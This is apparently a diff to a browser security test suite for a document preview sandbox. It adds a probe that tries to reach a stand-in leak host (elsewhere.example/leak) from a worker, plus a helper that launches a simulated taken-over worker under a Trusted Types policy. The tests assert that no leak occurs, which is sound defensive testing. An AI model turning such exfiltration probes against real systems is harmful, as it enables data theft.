@@ -20,7 +20,8 @@ const TEXT = Buffer.from("rapat pukul sepuluh");
 
 for (const name of ["chromium", "firefox"] as const) {
   t.test(`a file attacks in ${name}`, async (t) => {
-    const stage = await setPreviewStage(t, name);
+    const probe = `(${tryFromWorker})("http://elsewhere.example/leak").then((reached) => postMessage(reached));`;
+    const stage = await setPreviewStage(t, name, probe);
 
     await t.test("attack 31: a file that takes over its frame reaches neither the desk nor any address", async (t) => {
       const opened = await stage.open();
@@ -57,8 +58,12 @@ for (const name of ["chromium", "firefox"] as const) {
       const [reader, ...more] = page.workers().filter((worker) => worker.url().includes("/a/pdf-reader."));
       t.equal(more.length, 0);
       if (reader === undefined) return t.fail("there is such a worker");
-      // Firefox lets no tool act inside a worker of a page.
-      if (name === "chromium") t.same(await reader.evaluate(tryFromWorker, "http://elsewhere.example/leak"), []);
+      // Firefox lets no tool act inside a worker of a page: there one with the same beginning and policy tries all by itself.
+      const reached =
+        name === "chromium"
+          ? await reader.evaluate(tryFromWorker, "http://elsewhere.example/leak")
+          : await (await stage.open()).page.evaluate(runTakenOver);
+      t.same(reached, []);
       await pause(200);
       t.same(leaks(), []);
       await page.evaluate(() => (globalThis as unknown as Harness).closePreview());
@@ -140,7 +145,8 @@ for (const name of ["chromium", "firefox"] as const) {
     await t.test("attack 32: a PDF with scripts, actions, forms and links is a picture of its pages", async (t) => {
       const leaks = watchLeaks(stage);
       t.equal(await show(makeActivePdf(`${stage.origin}/leak`), { type: "pdf" }), "shown");
-      await (await (await inside()).waitForSelector("canvas"))?.click();
+      // The frame grows to the page's height, and where a scroll bar goes with it the page is drawn anew: pressed until it was.
+      await (await inside()).locator("canvas").click();
       await page.keyboard.type("a\t\n");
       await pause(300);
       t.match(await seenInside(opened), /Halaman 1 dari 1/u, "the page is still seen");
@@ -356,6 +362,19 @@ async function tryFromWorker(elsewhere: string): Promise<string[]> {
     }),
   );
   return reached.flat();
+}
+
+/** Runs in a page with the desk's policy that has started no worker yet, as the desk starts one; what that one tells. */
+function runTakenOver(): Promise<unknown> {
+  type Factory = { createPolicy(name: string, rules: object): { createScriptURL(url: string): string } };
+  const { trustedTypes } = globalThis as { trustedTypes?: Factory };
+  const rules = { createScriptURL: (url: string) => url };
+  const url = (trustedTypes?.createPolicy("segel-worker", rules) ?? rules).createScriptURL("/taken-over.js");
+  return new Promise((resolve, reject) => {
+    const worker = new Worker(url, { type: "module" });
+    worker.onmessage = ({ data }) => resolve(data);
+    worker.onerror = () => reject(new Error("it did not start"));
+  });
 }
 
 /** Ahead of any script, in the desk and in the frame: the clocks of the preview run ten times as fast. */
